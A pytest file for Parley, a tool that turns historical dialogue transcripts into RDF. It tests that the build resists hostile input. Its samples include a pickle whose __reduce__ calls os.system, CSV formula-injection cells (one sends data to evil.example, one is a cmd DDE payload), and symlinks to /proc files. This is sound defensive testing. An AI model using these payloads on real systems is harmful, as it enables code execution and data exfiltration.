"""Hostile input and shared folders: what the build reads, how it holds and writes its output folder,
and what its cache trusts (issue 21)."""

from __future__ import annotations

import os
import pickle
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import RdfFormat, parse

from helpers import ROOT
from parley import buildcache
from parley.build import build
from parley.buildcache import fingerprint
from parley.config import Settings
from parley.errors import InputError, ParleyError
from parley.model import Severity
from parley.project import load_project
from parley.read import doc_id_for, read_source

DIALOGUE = "5 May 1950\n\nStalin: Good.\n\nMao Zedong: Agreed.\n\nStalin: Fine.\n"
OTHER = "6 May 1950\n\nMolotov: Yes.\n\nStalin: No.\n\nMolotov: Then not.\n"


def _settings(corpus: Path, tmp_path: Path, **changes: object) -> Settings:
    values: dict[str, object] = {
        "corpus": corpus,
        "out": tmp_path / "g",
        "cache": tmp_path / "cache",
        "mappings": ROOT / "mappings",
        "ontology": ROOT / "ontology",
        "validate": False,
        "jobs": 1,
    }
    return Settings(**(values | changes))  # type: ignore[arg-type]


def _corpus(tmp_path: Path, files: dict[str, str]) -> Path:
    corpus = tmp_path / "corpus"
    corpus.mkdir(exist_ok=True)
    for name, text in files.items():
        (corpus / name).write_text(text, encoding="utf-8")
    return corpus


def _errors(result: object, name: str) -> list[str]:
    findings = result.findings  # type: ignore[attr-defined]
    return [f.message for f in findings if f.file.endswith("/" + name) and f.severity is Severity.ERROR]


def _published(out: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file())


# --- 2. symbolic links and special files ------------------------------------------------------------


def test_a_symlink_to_a_file_outside_the_corpus_is_not_followed(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    secret = tmp_path / "secret.txt"
    secret.write_text("Stalin: The secret word is swordfish.\n\nMolotov: Indeed.\n", encoding="utf-8")
    (corpus / "leak.txt").symlink_to(secret)
    (corpus / "status.txt").symlink_to("/proc/self/status")
    result = build(_settings(corpus, tmp_path))
    assert [d.doc_id for d in result.documents] == ["good"]
    for name in ("leak.txt", "status.txt"):
        assert _errors(result, name) == ["a symbolic link; not followed (put the file itself in the corpus)"]
    published = _published(tmp_path / "g")
    assert b"swordfish" not in published and b"VmRSS" not in published


def test_a_fifo_in_the_corpus_is_named_and_does_not_hang_the_build(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    os.mkfifo(corpus / "pipe.txt")
    result = build(_settings(corpus, tmp_path))
    assert [d.doc_id for d in result.documents] == ["good"]
    assert _errors(result, "pipe.txt") == ["not a regular file (a FIFO, socket or device); not read"]


@pytest.mark.parametrize("path", ["/proc/self/status", "/proc/self/environ"])
def test_a_proc_file_is_refused_although_its_size_is_zero(path: str) -> None:
    if not Path(path).exists():
        pytest.skip("no /proc here")
    with pytest.raises(InputError, match="pseudo file system"):
        read_source(Path(path), max_bytes=10)


def test_the_reader_does_not_follow_a_symlink(tmp_path: Path) -> None:
    (tmp_path / "real.txt").write_text(DIALOGUE, encoding="utf-8")
    (tmp_path / "link.txt").symlink_to(tmp_path / "real.txt")
    with pytest.raises(InputError, match="link.txt: a symbolic link; not followed"):
        read_source(tmp_path / "link.txt")


# --- 3. one build at a time; leftovers of a killed build --------------------------------------------


def test_a_second_build_into_a_held_folder_is_refused_naming_the_holder(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    out = tmp_path / "g"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from pathlib import Path; from parley.outfolder import exclusive\n"
            "with exclusive(Path(sys.argv[1])):\n    print('held', flush=True); time.sleep(60)",
            str(out),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        with pytest.raises(ParleyError, match=rf"another build is writing here \(pid {holder.pid} on "):
            build(_settings(corpus, tmp_path))
        assert not (out / "documents").exists()
    finally:
        holder.kill()
        holder.wait()
    assert [d.doc_id for d in build(_settings(corpus, tmp_path)).documents] == ["good"]
    assert not (out / ".parley-build.lock").exists()  # the lock file lives only while a build runs


def test_the_cache_is_held_too(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    from parley.buildcache import cache_folder
    from parley.outfolder import exclusive

    settings = _settings(corpus, tmp_path)
    with exclusive(cache_folder(settings)), pytest.raises(ParleyError, match="another build"):
        build(settings)


def test_two_builds_at_once_one_publishes_everything_the_other_is_refused(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i in range(60):
        (corpus / f"r{i:03}.txt").write_text(DIALOGUE.replace("Fine", f"Fine {i}"), encoding="utf-8")
    out = tmp_path / "g"
    command = [str(Path(sys.executable).parent / "parley"), "build", str(corpus), "--out", str(out)]
    command += ["--cache", str(tmp_path / "cache"), "--no-validate", "--jobs", "1"]
    first = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    lock = out / ".parley-build.lock"
    while not (lock.exists() and lock.read_text().strip()) and not list(out.glob("documents/*.ttl")):
        assert time.monotonic() < deadline and first.poll() is None
        time.sleep(0.005)
    os.kill(first.pid, signal.SIGSTOP)  # the first build is surely under way while the second runs
    try:
        second = subprocess.run(command, stderr=subprocess.PIPE, text=True, timeout=120)
    finally:
        os.kill(first.pid, signal.SIGCONT)
    assert first.wait(120) == 0, first.stderr.read() if first.stderr else ""
    assert second.returncode == 1 and "Traceback" not in second.stderr
    assert f"another build is writing here (pid {first.pid} on " in second.stderr
    assert len(list((out / "documents").glob("*.ttl"))) == 60


def test_leftovers_of_a_killed_build_are_removed_and_nothing_else(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    out = tmp_path / "g"
    (out / "documents").mkdir(parents=True)
    leftovers = [out / "parley.trig.tmp", out / "report.json.tmp", out / ".parley.ttl.parley.tmp"]
    leftovers.append(out / "documents" / ".abc.ttl.parley.tmp")
    mine = [out / "notes.tmp", out / "documents" / "draft.tmp"]
    for path in leftovers + mine:
        path.write_text("half written", encoding="utf-8")
    build(_settings(corpus, tmp_path))
    assert [p for p in leftovers if p.exists()] == []
    assert [p for p in mine if p.exists()] == mine


def test_a_killed_build_then_a_rebuild_equals_a_clean_build(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i in range(30):
        (corpus / f"r{i:02}.txt").write_text(OTHER.replace("Then not", f"Then not {i}"), encoding="utf-8")
    command = [
        str(Path(sys.executable).parent / "parley"),
        "build",
        str(corpus),
        "--out",
        str(tmp_path / "g"),
    ]
    command += ["--cache", str(tmp_path / "cache"), "--no-validate", "--jobs", "1"]
    run = subprocess.Popen(command, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list((tmp_path / "g").rglob("*.ttl"))) < 5:
        time.sleep(0.02)
    run.kill()
    run.wait()
    subprocess.run(command, check=True, stderr=subprocess.DEVNULL)
    clean = _settings(corpus, tmp_path, out=tmp_path / "clean", cache=tmp_path / "clean-cache")
    build(
        replace(clean, dataset=load_project(ROOT).info)
    )  # the command describes the dataset as parley.toml does
    assert _files(tmp_path / "g") == _files(tmp_path / "clean")


def _files(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


# --- 4. a failed rebuild keeps the last good files; only Parley's files are removed -----------------


def test_a_document_that_fails_on_a_rebuild_keeps_its_last_good_files(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "other.txt": OTHER})
    settings = _settings(corpus, tmp_path)
    build(settings)
    out = tmp_path / "g"
    before = (out / "documents" / "other.ttl").read_bytes()
    (corpus / "other.txt").write_bytes(b"\x00\x01 not a text any more")
    result = build(settings)
    assert (out / "documents" / "other.ttl").read_bytes() == before
    assert [d.doc_id for d in result.documents] == ["good", "other"]
    assert [m for m in _errors(result, "other.txt") if "binary" in m]
    kept = [f for f in result.findings if f.file.endswith("other.txt") and "last good build" in f.message]
    assert kept and kept[0].severity is Severity.WARNING
    report = (out / "report.json").read_text(encoding="utf-8")
    assert "last good build of this file stays published" in report and "binary file" in report
    graphs = {q.graph_name.value for q in parse(path=out / "parley.trig", format=RdfFormat.TRIG)}
    assert "https://w3id.org/parley/graph/other" in graphs
    (corpus / "other.txt").write_text(OTHER, encoding="utf-8")  # repaired: built again, nothing kept
    repaired = build(settings)
    assert not [f for f in repaired.findings if f.severity is not Severity.INFO]
    assert (out / "documents" / "other.ttl").read_bytes() == before


def test_a_document_that_fails_to_map_on_a_rebuild_keeps_its_last_good_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "other.txt": OTHER})
    settings = _settings(corpus, tmp_path)
    build(settings)
    before = (tmp_path / "g" / "documents" / "other.ttl").read_bytes()
    (corpus / "other.txt").write_text(OTHER + "\nStalin: An edit.\n", encoding="utf-8")
    from parley.rdf.document import DocumentMapper

    def failing(self: DocumentMapper, sink: object) -> None:
        raise KeyError("a bug")

    monkeypatch.setattr(DocumentMapper, "emit", failing)
    result = build(settings)
    assert (tmp_path / "g" / "documents" / "other.ttl").read_bytes() == before
    assert [d.doc_id for d in result.documents] == ["good", "other"]
    assert any("internal error KeyError" in m for m in _errors(result, "other.txt"))


def test_files_parley_did_not_write_are_never_removed(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "other.txt": OTHER})
    out = tmp_path / "g"
    build(_settings(corpus, tmp_path))
    notes = out / "documents" / "my-own-notes.ttl"
    notes.write_text("# mine\n", encoding="utf-8")
    (corpus / "other.txt").unlink()
    result = build(_settings(corpus, tmp_path))
    assert notes.read_text(encoding="utf-8") == "# mine\n"
    assert not (out / "documents" / "other.ttl").exists()
    (warning,) = [f for f in result.findings if f.file.endswith("my-own-notes.ttl")]
    assert warning.severity is Severity.WARNING and "not written by Parley" in warning.message


def test_without_the_cache_the_report_tells_what_an_earlier_build_published(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "other.txt": OTHER})
    out = tmp_path / "g"
    build(_settings(corpus, tmp_path))
    (out / "documents" / "mine.ttl").write_text("# mine\n", encoding="utf-8")
    (corpus / "other.txt").unlink()
    shutil.rmtree(tmp_path / "cache")
    build(_settings(corpus, tmp_path))
    assert sorted(p.name for p in (out / "documents").iterdir()) == ["good.ttl", "mine.ttl"]


# --- 5. a cache on another file system ---------------------------------------------------------------


def test_output_files_are_renamed_inside_the_output_folder_never_moved_across(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shm = Path("/dev/shm")
    other_fs = shm.is_dir() and os.access(shm, os.W_OK) and shm.stat().st_dev != tmp_path.stat().st_dev
    cache = Path(tempfile_in(shm)) if other_fs else tmp_path / "cache"
    try:
        corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "other.txt": OTHER})
        out = tmp_path / "g"
        renames: list[tuple[Path, Path]] = []
        replace = os.replace

        def recorded(source: str | Path, target: str | Path) -> None:
            renames.append((Path(source), Path(target)))
            replace(source, target)

        def refused(*args: object, **kwargs: object) -> None:
            raise AssertionError(f"a copy or move across folders: {args}")

        monkeypatch.setattr(os, "replace", recorded)
        monkeypatch.setattr(shutil, "move", refused)
        monkeypatch.setattr(shutil, "copyfile", refused)
        build(_settings(corpus, tmp_path, cache=cache))
        into_out = [(s, t) for s, t in renames if out in t.parents]
        assert {t.name for _, t in into_out} >= {"good.ttl", "other.ttl", "parley.trig", "report.json"}
        assert all(s.parent == t.parent for s, t in into_out)
    finally:
        if other_fs:
            shutil.rmtree(cache, ignore_errors=True)


def tempfile_in(folder: Path) -> str:
    return tempfile.mkdtemp(dir=folder, prefix="parley-test-cache-")


# --- 6. the cache key and what the cache trusts -----------------------------------------------------


def test_renaming_the_corpus_folder_does_not_serve_stale_source_file_names(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    build(_settings(corpus, tmp_path))
    renamed = corpus.rename(tmp_path / "archive")
    result = build(_settings(renamed, tmp_path))
    assert result.rebuilt == 1
    ttl = (tmp_path / "g" / "documents" / "good.ttl").read_text(encoding="utf-8")
    assert '"archive/good.txt"' in ttl and '"corpus/good.txt"' not in ttl


class _Planted:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch {self.marker}",))


@pytest.mark.parametrize("with_header", [False, True])
def test_a_pickle_planted_in_the_cache_is_never_run(tmp_path: Path, with_header: bool) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    settings = _settings(corpus, tmp_path)
    build(settings)
    marker = tmp_path / "pwned"
    payload = pickle.dumps({"entries": _Planted(marker), "fingerprint": _Planted(marker)})
    if with_header:  # the header of the right fingerprint does not make the pickle trusted
        payload = getattr(buildcache, "MAGIC", b"") + fingerprint(settings).encode() + b"\n" + payload
    (folder,) = (tmp_path / "cache" / "build").iterdir()
    for path in (folder / "entries").glob("*.pickle"):
        path.write_bytes(payload)
    result = build(settings)
    assert not marker.exists()
    assert result.rebuilt == 1 and [d.doc_id for d in result.documents] == ["good"]


def test_the_safe_unpickler_reads_back_everything_the_cache_holds(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "prose.txt": "A note without speakers.\n"})
    settings = _settings(corpus, tmp_path, validate=True)
    first = build(settings)
    assert any(f.severity is Severity.WARNING for f in first.findings)  # findings are in the cache
    again = build(settings)
    assert again.rebuilt == 0 and again.summary() == first.summary()
    with buildcache.BuildCache(settings) as cache:
        assert set(cache.entries) == {"good.txt", "prose.txt"} and cache.statistics is not None


# --- 7. document ids ---------------------------------------------------------------------------------


def _id_as_before(name: str) -> str:
    """The id as Parley and the external scorer derived it before: kept for every ASCII name."""
    stem = unicodedata.normalize("NFKD", Path(name).stem).encode("ascii", "ignore").decode().lower()
    return re.sub(r"\.{2,}", ".", re.sub(r"[^a-z0-9._-]+", "-", stem).strip(".-_"))


@given(
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126, exclude_characters="/\\"), min_size=1)
)
def test_ascii_file_names_keep_the_ids_they_always_had(stem: str) -> None:
    expected = _id_as_before(stem + ".txt")
    if not expected:
        with pytest.raises(InputError):
            doc_id_for(Path(stem + ".txt"))
        return
    assert doc_id_for(Path(stem + ".txt")) == expected


@pytest.mark.parametrize(
    "name", ["1945-06-30_stalin-soong.txt", "Ölfeld Café.txt", "ümlaut Ñame!.txt", "A b.txt", "x..y.md"]
)
def test_latin_names_keep_their_ids(name: str) -> None:
    assert doc_id_for(Path(name)) == _id_as_before(name)


def test_names_in_other_scripts_get_distinct_readable_ids() -> None:
    ids = {name: doc_id_for(Path(name)) for name in ("斯大林-1950.txt", "宋子文-1950.txt", "Молотов.txt")}
    assert ids == {
        "斯大林-1950.txt": "sidalin-1950-6c272a04",
        "宋子文-1950.txt": "songziwen-1950-4e4f9542",
        "Молотов.txt": "molotov-" + ids["Молотов.txt"].rsplit("-", 1)[1],
    }
    nfd = unicodedata.normalize("NFD", "Молотов.txt")
    assert doc_id_for(Path(nfd)) == ids["Молотов.txt"]  # the same name from another file system


def test_two_names_in_another_script_both_build(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"斯大林-1950.txt": DIALOGUE, "宋子文-1950.txt": OTHER})
    result = build(_settings(corpus, tmp_path))
    assert [d.doc_id for d in result.documents] == ["sidalin-1950-6c272a04", "songziwen-1950-4e4f9542"]


def test_a_collision_of_ids_is_reported_naming_both_files(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"A b.txt": DIALOGUE, "a-b.txt": OTHER})
    result = build(_settings(corpus, tmp_path))
    assert [d.doc_id for d in result.documents] == ["a-b"]
    (warning,) = [f for f in result.findings if "document id" in f.message]
    assert warning.file == "corpus/a-b.txt" and warning.severity is Severity.WARNING
    assert warning.message == "its document id a-b is also that of corpus/A b.txt; skipped (rename one)"


# --- 8. sources.csv ----------------------------------------------------------------------------------

HEADER = "file,title,date,citation\n"


def test_a_latin_1_sources_csv_is_read_with_a_warning(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    (corpus / "sources.csv").write_bytes(
        (HEADER + "good.txt,Réunion à Moscou,1950-05-05,\n").encode("latin-1")
    )
    result = build(_settings(corpus, tmp_path))
    (warning,) = [f for f in result.findings if f.file == "corpus/sources.csv"]
    assert warning.severity is Severity.WARNING and "cp1252" in warning.message
    assert "Réunion à Moscou" in (tmp_path / "g" / "documents" / "good.ttl").read_text(encoding="utf-8")


def test_an_unterminated_quote_is_reported_and_the_rows_after_it_are_read(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"a.txt": DIALOGUE, "b.txt": OTHER})
    text = HEADER + 'a.txt,"Open quote,1950-05-05,\nb.txt,Second record,1950-05-06,\n'
    (corpus / "sources.csv").write_text(text, encoding="utf-8")
    result = build(_settings(corpus, tmp_path))
    (error,) = [f for f in result.findings if f.file == "corpus/sources.csv"]
    assert (error.line, error.severity) == (2, Severity.ERROR)
    assert error.message == "a quote left open (an odd number of quotes on the line); row skipped"
    assert "Second record" in (tmp_path / "g" / "documents" / "b.ttl").read_text(encoding="utf-8")


def test_every_malformed_row_is_reported_with_its_line(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {})
    text = (
        HEADER
        + "a.txt,Fine,1950-05-05,\n"
        + 'b.txt,"bad"quote,1950-05-06,\n'
        + "c.txt,Too,many,cells,here\n"
        + "d.txt,Bad date,5 May 1950,\n"
        + ",No file,1950-05-07,\n"
        + 'e.txt,"Spans\nlines",1950-05-08,\n'
        + "f.txt,Short\n"
    )
    (corpus / "sources.csv").write_text(text, encoding="utf-8")
    from parley.corpus import read_sources

    rows, findings = read_sources(corpus)
    assert sorted(rows) == ["a.txt", "d.txt", "f.txt"] and rows["d.txt"].date is None
    assert [(f.line, f.severity.value) for f in findings] == [
        (3, "error"),
        (4, "error"),
        (5, "error"),
        (6, "error"),
        (7, "error"),
        (8, "error"),
        (9, "warning"),
    ]


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
)
def test_a_formula_cell_is_not_published(tmp_path: Path, cell: str) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    quoted = '"' + cell.replace('"', '""') + '"'
    (corpus / "sources.csv").write_text(
        f"{HEADER}good.txt,{quoted},1950-05-05,A citation\n", encoding="utf-8"
    )
    result = build(_settings(corpus, tmp_path))
    (warning,) = [f for f in result.findings if f.file == "corpus/sources.csv"]
    assert warning.line == 2 and "formula" in warning.message and warning.text == cell
    published = {
        t.object.value for t in parse(path=tmp_path / "g" / "documents" / "good.ttl", format=RdfFormat.TURTLE)
    }
    assert cell not in published and "A citation" in published


# --- 1. the per-document time limit ------------------------------------------------------------------


def test_a_document_that_overruns_its_time_is_an_error_and_the_others_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from parley import docbuild

    parse = docbuild.parse_document

    def slow(source: object, *args: object, **kwargs: object) -> object:
        if "SLOW" in source.text:  # type: ignore[attr-defined]
            while True:  # CPU time, as a super-linear expression would spend it
                sum(range(1000))
        return parse(source, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(docbuild, "parse_document", slow)
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE, "slow.txt": "SLOW\n\nStalin: Yes.\n"})
    clock = time.process_time()
    result = build(_settings(corpus, tmp_path, max_document_seconds=0.5))
    assert time.process_time() - clock < 30
    assert [d.doc_id for d in result.documents] == ["good"]
    (message,) = _errors(result, "slow.txt")
    assert message.startswith("took more than 0.5 s of CPU time to read and parse (--max-document-seconds")


def test_the_time_limit_holds_in_worker_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from parley import docbuild
    from parley.build import PARALLEL_FROM

    mapper = docbuild.DocumentBuilder._map

    def slow(self: docbuild.DocumentBuilder, document: object, *args: object) -> object:
        if "SLOW" in document.text:  # type: ignore[attr-defined]
            while True:
                sum(range(1000))
        return mapper(self, document, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(docbuild.DocumentBuilder, "_map", slow)  # inherited by the forked workers
    files = {f"r{i:02}.txt": OTHER.replace("Then not", f"Then not {i}") for i in range(PARALLEL_FROM)}
    corpus = _corpus(tmp_path, files | {"slow.txt": "SLOW\n\nStalin: Yes.\n\nMolotov: No.\n"})
    result = build(_settings(corpus, tmp_path, jobs=2, max_document_seconds=0.5))
    assert len(result.documents) == PARALLEL_FROM
    (message,) = _errors(result, "slow.txt")
    assert "0.5 s of CPU time to map and validate" in message


# --- all of it at once ------------------------------------------------------------------------------


def test_a_corpus_of_hostile_files_builds_its_good_records_and_names_every_bad_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from parley import docbuild

    parse = docbuild.parse_document

    def slow(source: object, *args: object, **kwargs: object) -> object:
        if "SLOW" in source.text:  # type: ignore[attr-defined]
            while True:
                sum(range(1000))
        return parse(source, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(docbuild, "parse_document", slow)
    corpus = _corpus(
        tmp_path,
        {
            "good.txt": DIALOGUE,
            "other.txt": OTHER,
            "斯大林-1950.txt": DIALOGUE.replace("Fine", "Very fine"),
            "宋子文-1950.txt": OTHER.replace("Then not", "Then so"),
            "empty.txt": "",
            "big.txt": "Stalin: Yes.\n\n" * 2000,
            "zcopy.txt": DIALOGUE,
            "slow.txt": "SLOW\n\nStalin: Yes.\n",
            "mr.txt": "Mr. " * 2400,  # super-linear in today's parser: stopped at its limit, or built
        },
    )
    (corpus / "binary.txt").write_bytes(b"\x00\x01\x02")
    outside = tmp_path / "outside.txt"
    outside.write_text("Stalin: Outside.\n\nMolotov: Yes.\n", encoding="utf-8")
    (corpus / "leak.txt").symlink_to(outside)
    (corpus / "proc.txt").symlink_to("/proc/self/status")
    os.mkfifo(corpus / "pipe.txt")
    (corpus / "sources.csv").write_bytes(
        (HEADER + 'good.txt,"Open,1950-05-05,\nother.txt,=1+1,1950-05-06,\n').encode("latin-1")
    )
    clock = time.process_time()
    result = build(_settings(corpus, tmp_path, max_document_mb=0.02, max_document_seconds=0.5))
    assert time.process_time() - clock < 30
    built = sorted(d.doc_id for d in result.documents if d.doc_id != "mr")
    assert built == ["good", "other", "sidalin-1950-6c272a04", "songziwen-1950-4e4f9542"]
    named = {f.file.rsplit("/", 1)[1] for f in result.findings if f.severity is not Severity.INFO}
    bad = {"empty.txt", "big.txt", "zcopy.txt", "binary.txt", "leak.txt", "proc.txt", "pipe.txt", "slow.txt"}
    assert bad | {"sources.csv"} <= named
    assert "mr" in {d.doc_id for d in result.documents} or _errors(result, "mr.txt")
    assert not list((tmp_path / "g").rglob("*.tmp"))


def test_an_output_folder_that_cannot_be_made_is_a_clean_error(tmp_path: Path) -> None:
    corpus = _corpus(tmp_path, {"good.txt": DIALOGUE})
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    with pytest.raises(ParleyError, match="cannot create the build's lock file: Not a directory"):
        build(_settings(corpus, tmp_path, out=tmp_path / "a-file" / "g"))
